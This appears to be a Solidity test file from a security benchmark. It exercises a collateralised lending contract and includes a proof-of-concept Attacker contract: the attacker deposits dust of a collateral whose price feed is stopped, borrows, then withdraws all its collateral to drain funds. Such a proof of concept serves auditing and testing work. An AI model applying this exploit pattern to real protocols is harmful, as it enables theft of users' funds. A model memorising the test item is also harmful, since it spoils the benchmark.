// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./BasketCredit.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-e509eee6-3c13-48cb-9690-50b7dcb5ab04

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Relic is ERC20 {
    constructor() ERC20("Relic", "REL") {
        _mint(msg.sender, 100e18);
    }
}

contract Feed is IFeed {
    uint256 private value;

    constructor(uint256 v) {
        value = v;
    }

    function price() external view returns (uint256) {
        require(value > 0, "stopped");
        return value;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant CURATOR = address(0xC04A);
    address private constant ANA = address(0xA9A);

    Coin private token;
    Relic private relic;
    BasketCredit private credit;
    Feed private feed;
    Attacker private mallory;

    function setUp() public {
        token = new Coin();
        relic = new Relic();
        credit = new BasketCredit(token, CURATOR);
        feed = new Feed(1e18);
        token.transfer(CURATOR, 5_000e18);
        vm.startPrank(CURATOR);
        credit.add(token, feed);
        credit.add(relic, new Feed(0));
        token.approve(address(credit), type(uint256).max);
        credit.fund(2_000e18);
        vm.stopPrank();
        token.transfer(ANA, 1_000e18);
        relic.transfer(ANA, 10e18);
        vm.startPrank(ANA);
        token.approve(address(credit), type(uint256).max);
        relic.approve(address(credit), type(uint256).max);
        vm.stopPrank();
        mallory = new Attacker(credit, token, relic);
        token.transfer(address(mallory), 1_000e18);
        relic.transfer(address(mallory), 1);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        credit.bring(0, 500e18);
        credit.borrow(350e18);
        require(token.balanceOf(ANA) == 850e18 && credit.ok(ANA), "borrowed");
        credit.repay(300e18);
        credit.takeOut(0, 400e18);
        credit.repay(50e18);
        credit.takeOut(0, 100e18);
        credit.bring(1, 2e18);
        credit.takeOut(1, 2e18);
        vm.stopPrank();
        require(token.balanceOf(ANA) == 1_000e18 && credit.free() == 2_000e18, "all back");
        vm.startPrank(CURATOR);
        credit.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        credit.renounceOwnership();
    }

    function test_RefusesTooMuch() public {
        vm.startPrank(ANA);
        vm.expectRevert(Zero.selector);
        credit.bring(0, 0);
        credit.bring(0, 500e18);
        vm.expectRevert(TooMuch.selector);
        credit.takeOut(0, 0);
        vm.expectRevert(TooMuch.selector);
        credit.takeOut(0, 501e18);
        vm.expectRevert(TooMuch.selector);
        credit.borrow(0);
        vm.expectRevert(TooMuch.selector);
        credit.borrow(2_001e18);
        vm.expectRevert(NotCovered.selector);
        credit.borrow(350e18 + 1);
        credit.borrow(350e18);
        vm.expectRevert(NotCovered.selector);
        credit.takeOut(0, 10);
        vm.expectRevert(TooMuch.selector);
        credit.repay(0);
        vm.expectRevert(TooMuch.selector);
        credit.repay(351e18);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this));
        vm.expectRevert(why);
        credit.add(token, feed);
        token.approve(address(credit), 1);
        vm.expectRevert(why);
        credit.fund(1);
        vm.expectRevert(Zero.selector);
        new BasketCredit(IERC20(address(0)), CURATOR);
        vm.startPrank(CURATOR);
        vm.expectRevert(Zero.selector);
        credit.add(IERC20(address(0)), feed);
        vm.expectRevert(Zero.selector);
        credit.add(token, IFeed(address(0)));
        for (uint256 i = 0; i < 6; i++) credit.add(token, feed);
        vm.expectRevert(Full.selector);
        credit.add(token, feed);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_690e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credit);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    BasketCredit private credit;
    Coin private token;
    Relic private relic;

    constructor(BasketCredit c, Coin t, Relic r) {
        credit = c;
        token = t;
        relic = r;
    }

    function run() external {
        token.approve(address(credit), type(uint256).max);
        relic.approve(address(credit), 1);
        credit.bring(1, 1);
        credit.bring(0, 1_000e18);
        credit.borrow(700e18);
        credit.takeOut(0, 1_000e18);
    }
}
